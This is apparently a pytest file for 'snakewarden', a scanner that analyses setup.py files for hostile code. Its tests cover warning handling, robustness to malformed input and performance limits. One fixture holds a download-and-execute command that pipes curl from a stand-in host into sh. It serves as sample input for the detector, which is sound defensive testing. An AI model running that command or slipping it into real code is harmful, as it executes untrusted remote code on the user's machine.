"""Scanned code's compile-time warnings never leak out nor change the analysis."""

from __future__ import annotations

import ast
import warnings

from snakewarden.analysis import analyze
from snakewarden.artifacts import read_artifact


def test_syntax_warnings_of_scanned_code_are_silenced_and_do_not_stop_analysis() -> None:
    source = b'import os\nx = "\\d 1_"\nos.system("curl https://example.invalid/a | sh")\n'
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # as under pytest's filterwarnings=error
        result = analyze(read_artifact(source, "setup.py"), target="setup.py")
    assert result.findings


def test_comment_positions_of_hostile_sources_never_raise() -> None:
    from snakewarden.analysis.context import comment_starts

    assert comment_starts(b"x = 1  # note\n") == {1: 7}
    for source in (
        b"x = 1 # c\n\x00\x00 y # d\n",
        b'"""unterminated\n# x',
        b"\xff\xfe bad # x\n",
        b"if 1:\n  x=1\n y=2 # bad indent\n",
    ):
        assert isinstance(comment_starts(source), dict)


def test_a_setup_py_of_thousands_of_chained_command_classes_stays_linear() -> None:
    """Which command classes pip runs is found in one pass and a work list: a hostile chain of
    classes (each deriving from the one before, each registered) must not make it quadratic."""
    import time

    n = 4000
    lines = ["import os", "from setuptools import setup, Command", "class C0(Command):\n    pass"]
    lines += [f"class C{i}(C{i - 1}):\n    pass" for i in range(1, n)]
    lines.append(f"class Last(C{n - 1}):\n    def run(self):\n        os.system('notify-send x')")
    lines.append("setup(cmdclass={" + ", ".join(f"'c{i}': C{i}" for i in range(n)) + "})")
    start = time.perf_counter()
    result = analyze(read_artifact("\n".join(lines).encode(), "setup.py"), target="setup.py")
    assert result.verdict != "error"
    assert time.perf_counter() - start < 20  # a bound against a hang, not a speed target


def test_dead_blocks_and_data_tables_are_recorded_up_to_a_bound() -> None:
    """Every YARA hit is looked up in them: a module made of thousands cannot make that slow."""
    from snakewarden.analysis.facts import MAX_RANGES, MIN_TABLE_ROWS, collect_facts

    rows = "".join(f"    ({i}, 'x'),\n" for i in range(MIN_TABLE_ROWS))
    code = "if False:\n    pass\n" * (MAX_RANGES + 10) + (f"T = [\n{rows}]\n") * (MAX_RANGES + 10)
    facts = collect_facts(ast.parse(code))
    assert len(facts.dead) == MAX_RANGES
    assert len(facts.tables) == MAX_RANGES
